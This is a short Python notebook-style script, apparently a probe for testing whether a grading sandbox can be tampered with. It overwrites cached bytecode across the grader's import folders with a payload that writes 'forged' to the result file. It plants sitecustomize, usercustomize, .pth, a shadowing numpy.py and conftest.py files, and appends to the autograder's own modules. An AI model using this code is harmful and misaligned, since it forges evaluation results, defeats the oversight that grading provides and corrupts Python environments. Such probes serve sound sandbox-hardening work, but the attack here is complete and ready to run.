# title: poisoned bytecode, .pth files and sitecustomize in the folders that the grader imports from
# success: a new or changed file in one of these folders
# keeps: nothing

# %%
import glob, importlib.util, marshal, os, sys

code = compile(f"open({MAP['result']!r}, 'w').write('forged')", "grading.py", "exec")
poison = importlib.util.MAGIC_NUMBER + (0b01).to_bytes(4, "little") + b"\0" * 8 + marshal.dumps(code)
folders = [MAP["files"], MAP["place"] + "/source", *(path for path in sys.path if path.startswith(MAP["place"]))]
for folder in folders:
    for path in glob.glob(f"{folder}/**/*.py", recursive=True):
        cached = importlib.util.cache_from_source(path)
        tried(os.makedirs, os.path.dirname(cached), exist_ok=True)
        stream = tried(open, cached, "wb")
        if stream:
            stream.write(poison)
            stream.close()
    for name, text in (("sitecustomize.py", "import os"), ("usercustomize.py", "import os"), ("zz.pth", "import os"), ("numpy.py", "import os"), ("conftest.py", "")):
        stream = tried(open, os.path.join(folder, name), "w")
        if stream:
            stream.write(text)
            stream.close()

# %%
import autograder

folder = os.path.dirname(autograder.__file__)
for name in ("grading.py", "messages.py", "__init__.py"):
    stream = tried(open, os.path.join(folder, name), "a") if folder.startswith(MAP["place"]) else None
    if stream:
        stream.write("\n# changed\n")
        stream.close()
